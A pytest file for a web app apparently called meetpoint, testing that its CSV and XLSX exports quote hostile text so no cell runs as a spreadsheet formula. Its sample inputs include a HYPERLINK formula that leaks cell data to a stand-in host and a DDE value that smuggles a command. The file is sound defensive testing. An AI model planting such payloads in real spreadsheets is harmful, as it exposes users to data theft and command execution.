"""Every CSV and XLSX export opened in a spreadsheet shows hostile names as text: no cell is a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from meetpoint.accounts import audit
from meetpoint.directory.models import Location
from meetpoint.outcomes import exports
from meetpoint.outcomes.tests.test_reports import END, START, logged, site, van  # noqa: F401 — fixtures
from meetpoint.outcomes.tests.test_suppress_table import run as run_suppress_table
from meetpoint.spreadsheet_cells import FORMULA_STARTS, safe_cell

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]

pytestmark = pytest.mark.django_db


def live_formulas(cells) -> list:
    return [value for value in cells if isinstance(value, str) and value.startswith(FORMULA_STARTS)]


def csv_cells(text: str) -> list:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_text_is_quoted_and_numbers_stay_numbers():
    assert safe_cell(HOSTILE) == "'" + HOSTILE
    assert all(safe_cell(value) == "'" + value for value in OTHERS)
    assert [safe_cell(value) for value in (-3, 2.5, "-12", "+3.5", "", "Main Street")] == [
        -3,
        2.5,
        "-12",
        "+3.5",
        "",
        "Main Street",
    ]


@pytest.fixture
def hostile_site(world, logged):  # noqa: F811
    return Location.objects.filter(organization=world.home.organization, name="Main Street SSP").update(
        name=HOSTILE
    )


def test_report_csv_and_xlsx_carry_no_formula(world, hostile_site):
    client = world.client(world.home.staff)
    query = {"from": START.isoformat(), "to": END.isoformat()}
    text = client.get("/outcomes/report/download.csv", query).content.decode()
    assert "'" + HOSTILE in csv_cells(text)
    assert live_formulas(csv_cells(text)) == []
    book = load_workbook(io.BytesIO(client.get("/outcomes/report/download.xlsx", query).content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert "'" + HOSTILE in [cell.value for cell in cells]
    assert live_formulas(cell.value for cell in cells) == []
    # Numbers stay numbers in the workbook.
    assert any(isinstance(cell.value, int) for cell in cells)
    # The outsider and the anonymous visitor get no report of this organization's sites.
    assert (
        HOSTILE
        not in world.client(world.outsider.staff).get("/outcomes/report/download.csv", query).content.decode()
    )
    assert world.client().get("/outcomes/report/download.csv", query).status_code == 302


def test_release_csv_for_packages_and_open_data_carries_no_formula():
    contents = {
        "period": {"label": "2025-Q1"},
        "tables": [
            {
                "indicator": "naloxone",
                "name": HOSTILE,
                "unit": "@kits",
                "total": 12,
                "rows": [{"place": value, "value": 4} for value in OTHERS],
            }
        ],
    }
    cells = csv_cells(exports.release_csv(contents).decode())
    assert live_formulas(cells) == []
    assert "'" + HOSTILE in cells and "12" in cells


def test_audit_log_csv_carries_no_formula(world):
    # A user name is chosen by whoever creates the account; the audit log repeats it as the actor.
    world.home.staff.user.username = HOSTILE
    world.home.staff.user.save()
    audit.record("service.updated", membership=world.home.staff, detail={"name": HOSTILE})
    answer = world.client(world.home.admin).get("/account/audit/", {"format": "csv"})
    assert answer.status_code == 200
    cells = csv_cells(answer.content.decode())
    assert "'" + HOSTILE in cells
    assert live_formulas(cells) == []
    assert (
        world.client(world.outsider.admin)
        .get("/account/audit/", {"format": "csv"})
        .content.count(b"evil.example")
        == 0
    )


def test_suppressed_table_output_carries_no_formula():
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    out = run_suppress_table(f",A,B\n{quoted},12,40\n-1+1,30,25\n", "--threshold", "2")
    assert live_formulas(csv_cells(out)) == []
